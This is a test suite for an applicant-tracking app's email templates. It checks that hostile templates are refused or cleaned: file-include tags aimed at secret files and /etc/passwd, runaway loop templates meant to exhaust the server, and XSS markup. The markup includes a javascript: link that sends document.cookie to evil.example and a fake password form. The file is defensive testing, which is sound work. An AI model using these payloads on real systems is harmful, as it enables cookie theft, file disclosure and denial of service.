import { REMOVED_FILTERS, REMOVED_TAGS, TemplateRenderError } from '@candor/emails';
import { TemplatePool } from '../src/modules/notifications/template-pool';
import { codeOf, startTestApp, TestApp } from './support/test-app';
import { expectNoErrors, Fixtures, SignedIn } from './support/fixtures';
import { captureLogs } from './support/log-capture';

const PREVIEW = `query($i: PreviewStageEmailInput!) { previewStageEmail(input: $i) { subject text html } }`;
const SAVE = `mutation($i: UpdateEmailTemplateInput!) { updateEmailTemplate(input: $i) { subject body isDefault } }`;
const MOVE = `mutation($i: MoveCandidateInput!) { moveCandidate(input: $i) { id } }`;

/** Files under the working folder that a template must never reach (the issue's examples and others). */
const FILES = ['.data/secret-key', 'package.json', '.git/config', '.data/postgres-password', 'apps/api/schema.gql', '/etc/passwd', '../../../../etc/hostname'];
const RUNAWAY = [
  "{% for i in (1..10000000) %}{% cycle 'a','b' %}{% endfor %}",
  '{% for a in (1..100000) %}{% for b in (1..100000) %}x{% endfor %}{% endfor %}',
  '{% assign s = "xxxxxxxxxx" %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}',
  '{% tablerow i in (1..10000000) %}{{ i }}{% endtablerow %}',
];

describe('hostile templates', () => {
  let t: TestApp;
  let f: Fixtures;
  let admin: SignedIn;
  let recruiter: SignedIn;
  let job: Awaited<ReturnType<Fixtures['createJob']>>;
  let organizationId: string;
  /**
   * An admin of an organization of their own with a job: saves and previews are limited per
   * member, and the invitations that make members are limited per inviter.
   */
  const attacker = async () => {
    const owner = await f.signUp('Template attackers');
    const own = await f.createJob(owner.token);
    return { token: owner.token, stageId: own.stages[1].id, job: own };
  };

  beforeAll(async () => {
    t = await startTestApp();
    f = new Fixtures(t);
    admin = await f.signUp('Template attackers');
    recruiter = await f.member(admin, 'RECRUITER');
    job = await f.createJob(admin.token);
    [{ organization_id: organizationId }] = await t.dataSource.query('SELECT organization_id FROM jobs WHERE id = $1', [job.id]);
  });
  afterAll(() => t.close());

  const loaders = REMOVED_TAGS.flatMap((tag) => FILES.map((file) => [tag, file] as const));

  it.each(loaders)('{%% %s "%s" %%}: refused in previews and on save, naming the field, reading nothing', async (tag, file) => {
    const { token, stageId } = await attacker();
    for (const [field, template] of [
      ['body', { subject: 's', body: `{% ${tag} '${file}' %}` }],
      ['subject', { subject: `{% ${tag} "${file}" %}`, body: 'b' }],
    ] as const) {
      const preview = await t.gql(PREVIEW, { i: { stageId, ...template } }, token);
      expect(codeOf(preview)).toBe('BAD_USER_INPUT');
      expect(preview.errors![0].extensions.field).toBe(field);
      expect(JSON.stringify(preview)).not.toMatch(/"name": ?"candor"|\[core\]|root:x:|BEGIN|test-secret-key/);
      const saved = await t.gql(SAVE, { i: { stageId, ...template } }, token);
      expect(codeOf(saved)).toBe('BAD_USER_INPUT');
      expect(saved.errors![0].extensions.field).toBe(field);
    }
    expect(await f.count('email_templates', 'stage_id = $1', [stageId])).toBe(0);
  });

  it.each(REMOVED_FILTERS)('the %s filter is refused, so values stay escaped', async (filter) => {
    const res = await t.gql(SAVE, { i: { stageId: job.stages[1].id, subject: 's', body: `{{ candidate.name | ${filter} }}` } }, recruiter.token);
    expect(codeOf(res)).toBe('BAD_USER_INPUT');
    expect(res.errors![0].message).toMatch(new RegExp(filter));
  });

  it.each(RUNAWAY)('a runaway template is refused on save and in previews: %s', async (body) => {
    const { token, stageId } = await attacker();
    const saved = await t.gql(SAVE, { i: { stageId, subject: 'Hello', body } }, token);
    expect(codeOf(saved)).toBe('BAD_USER_INPUT');
    expect(saved.errors![0].extensions.field).toBe('body');
    const subject = await t.gql(SAVE, { i: { stageId, subject: body.slice(0, 300), body: 'Hello' } }, token);
    expect(['BAD_USER_INPUT']).toContain(codeOf(subject));
    const preview = await t.gql(PREVIEW, { i: { stageId, body } }, token);
    expect(codeOf(preview)).toBe('BAD_USER_INPUT');
    expect(await f.count('email_templates', 'stage_id = $1', [stageId])).toBe(0);
  });

  it('/health keeps answering while 15 aliased runaway previews run, and every one is refused', async () => {
    // Nested loops: the slowest kind (they run until the engine's time limit cuts in).
    const aliases = Array.from({ length: 15 }, () => RUNAWAY[1]);
    const previewer = await attacker();
    const query = `query(${aliases.map((_, i) => `$b${i}: String!`).join(', ')}) { ${aliases
      .map((_, i) => `p${i}: previewStageEmail(input: { stageId: "${previewer.stageId}", body: $b${i} }) { subject }`)
      .join(' ')} }`;
    const variables = Object.fromEntries(aliases.map((body, i) => [`b${i}`, body]));
    let previewsDone = 0;
    const previews = t.gql(query, variables, previewer.token).then((res) => {
      previewsDone = Date.now();
      return res;
    });
    // Asked after the previews started; answered while they are still rendering.
    await new Promise((resolve) => setTimeout(resolve, 20));
    const health = await t.http().get('/health');
    const healthAnswered = Date.now();
    expect(health.status).toBe(200);
    const res = await previews;
    expect(healthAnswered).toBeLessThan(previewsDone);
    // previewStageEmail is non-null: the first refusal ends the answer (graphql-js stops collecting there).
    expect(res.data).toBeNull();
    expect(res.errors!.length).toBeGreaterThan(0);
    expect(res.errors!.every((e) => e.extensions.code === 'BAD_USER_INPUT' && e.extensions.field === 'body')).toBe(true);
  });

  it("sanitizes the author's markup in real emails: no script, form, frame, hidden text or javascript: link", async () => {
    const other = await f.createJob(admin.token, { title: 'Markup job' });
    const stageId = other.stages[1].id;
    const body = [
      'Hi {{ candidate.first_name }},',
      '<a href="javascript:fetch(\'//evil.example/\'+document.cookie)">Open your offer</a> <form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>',
      '<iframe src="https://evil.example"></iframe><script>alert(1)</script><img src="https://evil.example/pixel.gif" onerror="alert(1)">',
      '<span style="display:none">hidden</span><p style="font-size:0;color:#ffffff">tiny</p><b onclick="alert(1)">Bold</b>',
      '<a href="https://northwind.example/prep">How to prepare</a> {{ status_link }}',
    ].join('\n\n');
    expectNoErrors(await t.gql(SAVE, { i: { stageId, subject: 'Next step', body } }, recruiter.token));
    const candidate = await f.addCandidate(admin.token, other.id, { name: 'Mallory <b>Markup</b>' });
    expectNoErrors(await t.gql(MOVE, { i: { candidateId: candidate.id, stageId } }, admin.token));
    const [email] = await t.dataSource.query("SELECT html, text FROM email_messages WHERE candidate_id = $1 AND kind = 'STAGE_CHANGED'", [candidate.id]);
    // The template's part of the email: from its first line to the end of its text block (the layout around it is ours).
    const html: string = email.html.slice(email.html.indexOf('Hi Mallory'), email.html.indexOf('</p></div>', email.html.indexOf('Hi Mallory')));
    expect(html).not.toMatch(/javascript:|<form|<input|<button|<iframe|<script|<img|onerror|onclick|display:none">hidden|font-size:0|evil\.example/i);
    expect(html).toContain('<a href="https://northwind.example/prep" style="color:#1d4e89" target="_blank" rel="noopener noreferrer">How to prepare</a>');
    expect(html).toContain('<b>Bold</b>');
    expect(html).toContain('Mallory');
    expect(email.text).toContain('How to prepare (https://northwind.example/prep)');
  });

  it('a template that fails when an email is due (saved before the limits existed) falls back to the default words; the log names the template, never the values', async () => {
    const other = await f.createJob(admin.token, { title: 'Fallback job' });
    const stage = other.stages[1];
    const [{ id: templateId }] = await t.dataSource.query(
      'INSERT INTO email_templates (organization_id, stage_id, subject, body) VALUES ($1, $2, $3, $4) RETURNING id',
      [organizationId, stage.id, 'Hi {{ candidate.first_name }}', `{{ status_link }} ${RUNAWAY[1]}`],
    );
    const candidate = await f.addCandidate(admin.token, other.id, { name: 'Fallback Person' });
    const logs = await captureLogs(async () => {
      expectNoErrors(await t.gql(MOVE, { i: { candidateId: candidate.id, stageId: stage.id } }, admin.token));
    });
    const [email] = await t.dataSource.query("SELECT subject, text FROM email_messages WHERE candidate_id = $1 AND kind = 'STAGE_CHANGED'", [candidate.id]);
    expect(email.text).toContain('Hi Fallback,');
    expect(logs).toContain(templateId);
    expect(logs).not.toContain(candidate.statusUrl.split('#').pop());
    expect(logs).not.toContain('Fallback Person');
  });

  it("one organization flooding the template workers fails no other organization's move, and its previews say busy, never blaming the template", async () => {
    const victim = await f.signUp('Bystander');
    const victimJob = await f.createJob(victim.token, { title: 'Calm job' });
    const stage = victimJob.stages[1];
    expectNoErrors(await t.gql(SAVE, { i: { stageId: stage.id, subject: 'Hello {{ candidate.first_name }}', body: 'Our own words for {{ candidate.name }}.' } }, victim.token));
    const candidate = await f.addCandidate(victim.token, victimJob.id, { name: 'Quiet Person' });
    // The flood: the slowest kind of template, more of it than the pool takes.
    const pool = t.app.get(TemplatePool);
    const flood = Array.from({ length: 40 }, () => pool.render({ subject: 'x', body: RUNAWAY[1] }, {}).catch((e: unknown) => (e as TemplateRenderError).reason));
    const moved = await t.gql(MOVE, { i: { candidateId: candidate.id, stageId: stage.id } }, victim.token);
    const preview = await t.gql(PREVIEW, { i: { stageId: stage.id } }, victim.token);
    expect(new Set(await Promise.all(flood))).toContain('BUSY');
    expectNoErrors(moved);
    const [email] = await t.dataSource.query("SELECT subject, text FROM email_messages WHERE candidate_id = $1 AND kind = 'STAGE_CHANGED'", [candidate.id]);
    expect(email.text).toMatch(/Our own words for Quiet Person|Hi Quiet/);
    if (preview.errors) {
      expect(codeOf(preview)).toBe('TOO_MANY_REQUESTS');
      expect(preview.errors[0].message).toMatch(/busy/);
    }
  });
});
